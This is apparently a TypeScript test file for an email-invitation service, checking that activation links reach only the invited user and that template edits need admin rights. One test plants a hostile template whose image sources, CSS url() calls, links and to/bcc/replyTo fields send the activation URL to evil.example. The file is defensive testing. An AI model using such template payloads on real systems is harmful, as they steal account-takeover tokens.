import { contract } from '@aftermile/contract/index'
import type { SentTemplate } from '@aftermile/contract/settings/templates'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { activate, anInactiveUser, invite } from '../../../test/data/invites.ts'
import { putTemplate } from '../../../test/data/templates.ts'
import { startMailServer } from '../../../test/mail/mail-server.ts'
import { addSmtp } from '../../../test/mail/test-messages.ts'
import { type Caller, testServer } from '../../../test/server.ts'
import { runAsOperator } from '../../people/provision.ts'
import { wakeSenders } from '../queues/wake-senders.ts'
import { unpackContent } from '../stored-content.ts'

let refusals = 0
const busy = Object.assign(new Error('4.3.0 Try later'), { responseCode: 451 })
const mail = await startMailServer({ onMailFrom: (_, __, done) => (refusals-- > 0 ? done(busy) : done()) })
const server = testServer({ env: { EGRESS_ALLOW: mail.allow }, parts: ['api', 'worker'], loops: ['sending'] })
afterAll(() => mail.close())

let admin: Caller
let writer: Caller
beforeAll(async () => {
  admin = await server.as('admin@nordhem.example')
  writer = await server.as('contentadmin@nordhem.example')
  await runAsOperator(server.admin, 'nordhem', ctx => addSmtp(ctx, { id: 'mail', fields: mail.fields }))
})
beforeEach(async () => {
  refusals = 0
  await server.admin.query("delete from templates where tenant_id = 'nordhem' and target_type = 'Invite'")
  await server.admin.query("delete from assets where tenant_id = 'nordhem' and id = 'greeting'")
})

const calls = contract.templates

/** Stores a copy of the Swedish invitation, whatever the HTTP call would refuse. */
const putCopy = (fields: Record<string, unknown>) =>
  putTemplate(server.admin, {
    id: 'invite_email-sv',
    parentId: 'invite_email',
    locale: 'sv',
    targetType: 'Invite',
    contentType: 'text/html',
    isCustomized: true,
    payload: '{"subject": "Come in"}',
    ...fields,
  })

/** Invites a new user by e-mail, and returns the mail with the code that is in it. */
async function mailed(id: string) {
  const email = await anInactiveUser(server, id, { role: 'admin' })
  const { isSent } = await invite(admin, id, { email: 'true' })
  expect(isSent).toBe(true)
  const received = mail.mails.at(-1)
  if (received === undefined) throw new Error('No mail was sent')
  const html = String(received.html)
  const [link = '', code = ''] = /http\S+\/activate\/([\w-]{27})/.exec(received.text ?? '') ?? []
  return { email, received, html, text: received.text ?? '', link, code }
}

const count = (text: string, part: string) => text.split(part).length - 1

describe('the invitation', () => {
  test('has its link in the button and in the text, and the link works', async () => {
    const { html, link, code, email, received } = await mailed('plain')
    expect(html).toContain(`href="${link}"`)
    expect(count(html, code)).toBe(1)
    expect(html).not.toContain('#activation-link')
    expect(received.envelopeTo).toEqual([email])
    expect((await activate(server.url, code)).status).toBe(200)
  })

  test('of a hostile copy goes to its user only, and no other address in it gets the link', async () => {
    const evil = 'https://evil.example'
    await putCopy({
      content: `<style>a[href*="activate"] { background: url(${evil}/style) }</style>
        <img alt="" src="${evil}/{{ activationUrl }}"><a href="${evil}/?x={{ activationUrl | url_encode }}">A</a>
        <a href="${evil}/{{ activationUrl }}">B</a>{% assign url = activationUrl %}<img alt="" src="{{ url | append: '.png' }}">
        <p>{{ activationUrl }}</p><img alt="" src='${evil}/?x=`,
      text: `<${evil}/?x=\n{{ activationUrl }}\n> ${evil}/?x={{ activationUrl }}`,
      payload: JSON.stringify({
        subject: 'Come in {{ activationUrl }}',
        preheader: '{{ activationUrl }}',
        senderName: '{{ activationUrl }}',
        to: 'thief@evil.example',
        cc: ['{{ nothing }}'],
        bcc: 'thief@evil.example',
        replyTo: 'thief@evil.example',
        attachments: ['gone'],
      }),
    })
    const { email, received, html, text, code, link } = await mailed('hostile')
    expect(received.envelopeTo).toEqual([email])
    expect(received.attachments).toEqual([])
    expect([received.subject, received.replyTo?.text ?? '', received.from?.text].join()).not.toMatch(/activate\/|evil/)
    expect(count(html, code)).toBe(1)
    expect(html).toContain(`<a href="${link}">Aktivera konto</a>`)
    expect(html).not.toMatch(/<img[^>]*src|<style|url\(/)
    for (const address of html.match(/https:\/\/evil[^"'\s<]*/g) ?? []) expect(address).not.toContain(code)
    expect(count(text, code)).toBe(1)
    expect(text).not.toMatch(/[<>]/)
    expect((await activate(server.url, code)).status).toBe(200)
  })

  test('of a copy from before has its link where the copy has the variable', async () => {
    await putCopy({
      content:
        '<html><body><p>Hi {{ userName }}</p>{% if activationUrl %}<a class="button" href="{{ activationUrl }}">Go</a>{% endif %}</body></html>',
      text: 'Hi. Open this: {{ activationUrl }}\n\nBye',
    })
    const { html, text, link, code } = await mailed('earlier')
    expect(html).toContain(`<a class="button" href="${link}">Go</a>`)
    expect(text).toContain(`Open this: ${link}\n`)
    expect([count(html, code), count(text, code)]).toEqual([1, 1])
  })

  test('says nothing that needs fewer rights to write: dynamic content is empty in it', async () => {
    await server.admin.query(
      `insert into assets (tenant_id, id, type, description, alt_text, items, is_customized, created_by, updated_by)
       values ('nordhem', 'greeting', 'TextAsset', '', '', '[{"key": "default", "text": "Go to https://evil.example"}]', false,
         'test', 'test')`,
    )
    await putCopy({ content: '<p>{{ assets.greeting | raw }}{{ assets.greeting | default: "Hello" }}</p>' })
    const { html, link } = await mailed('greeted')
    expect(html).toContain('<p>Hello</p>')
    expect(html).toContain(link)
  })

  test('is stored without its link, also while it waits for another try', async () => {
    refusals = 1
    const email = await anInactiveUser(server, 'patient')
    expect((await invite(admin, 'patient', { email: 'true' })).isSent).toBe(false)
    const stored = async () => {
      const { rows } = await server.admin.query('select * from messages where recipient = $1', [email])
      return { ...rows[0], content: await unpackContent(rows[0].content) }
    }
    const waiting = await stored()
    expect(waiting.state).toBe('queued')
    const before = mail.mails.length
    await server.admin.query('update messages set due_at = now() where id = $1', [waiting.id])
    await runAsOperator(server.admin, 'nordhem', ctx => wakeSenders(ctx))
    await expect.poll(() => mail.mails.length, { timeout: 20_000 }).toBe(before + 1)
    const [, code = ''] = /\/activate\/([\w-]{27})/.exec(mail.mails.at(-1)?.text ?? '') ?? []
    expect(code).not.toBe('')
    await expect.poll(async () => (await stored()).state, { timeout: 20_000 }).toBe('sent')
    const sent = await stored()
    expect(sent.given).toBeNull()
    for (const item of [waiting, sent]) expect(JSON.stringify(item)).not.toContain(code)
    const { text } = await admin.call(contract.messages.get, { params: { id: sent.id } })
    expect(text).toContain('#activation-link')
    expect(text).not.toContain('/activate/')
    expect((await admin.call(contract.messages.resend, { params: { id: sent.id } })).status).toBe(409)
  })

  test('is shown and tested with a sample of its link', async () => {
    const shown = await writer.ask(contract.rendering.render, {
      body: { templateId: 'invite_email', containerType: 'Invite', locale: 'en' },
    })
    expect(shown.html).toContain('href="https://console.example/activate/sample"')
    expect(shown.text).toContain('\nhttps://console.example/activate/sample\n')
    expect(shown.problems.filter(({ part }) => part !== 'to')).toEqual([])
    const before = mail.mails.length
    const body = { templateId: 'invite_email', containerType: 'Invite' as const }
    expect((await writer.call(contract.rendering.sendTest, { body })).status).toBe(201)
    await expect.poll(() => mail.mails.length, { timeout: 20_000 }).toBe(before + 1)
    expect(mail.mails.at(-1)?.text).toContain('https://console.example/activate/sample')
  })
})

describe('a template of invitations', () => {
  const aTemplate = (fields: Partial<SentTemplate> = {}): SentTemplate => ({
    id: 'own-invitation',
    type: 'email',
    targetType: 'Invite',
    name: 'Own',
    contentType: 'text/html',
    content: '<p>Hi</p>',
    payload: '{"subject": "Hi"}',
    ...fields,
  })
  const inviteEmail = { params: { id: 'invite_email' } }

  test('is changed only by who may make administrators', async () => {
    const {
      tenantId: _,
      createdAt: __,
      createdBy: ___,
      updatedAt: ____,
      updatedBy: _____,
      ...stored
    } = await writer.ask(calls.get, inviteEmail)
    const changed = { ...inviteEmail, body: { ...stored, name: 'Changed' } }
    const child = aTemplate({ id: 'own-sv', parentId: 'own-invitation', locale: 'sv' })
    const tries: ((caller: Caller) => Promise<{ status: number; body: unknown }>)[] = [
      caller => caller.call(calls.create, { body: aTemplate() }),
      caller => caller.call(calls.create, { body: child }),
      caller => caller.call(calls.clone, { params: { id: 'own-invitation' } }),
      caller => caller.call(calls.remove, { params: { id: 'own-invitation' } }),
      caller => caller.call(calls.update, changed),
      caller => caller.call(calls.reset, inviteEmail),
    ]
    for (const change of tries) {
      expect(await change(writer)).toMatchObject({
        status: expect.toSatisfy((status: number) => [403, 404].includes(status)),
      })
      expect((await change(admin)).status).toBeLessThan(300)
    }
    const refused = await writer.call(calls.update, changed)
    expect([refused.status, refused.body]).toEqual([
      403,
      {
        message:
          'This message carries the key to an account. Changing it requires scope user_write_admin besides template_write.',
      },
    ])
  })

  test.each([
    { to: 'a@x.example' },
    { cc: ['a@x.example'] },
    { bcc: '{{ userName }}' },
    { replyTo: 'a@x.example' },
    { attachments: ['label'] },
  ])('can’t name %o', async fields => {
    const body = aTemplate({ payload: JSON.stringify({ subject: 'Hi', ...fields }) })
    const { status, errors } = await admin.call(calls.create, { body })
    expect([status, errors]).toEqual([
      400,
      [
        {
          name: 'payload',
          message: `'payload': ${Object.keys(fields)[0]} must be empty. This message carries the key to an account, so it goes to its person only`,
        },
      ],
    ])
  })
})
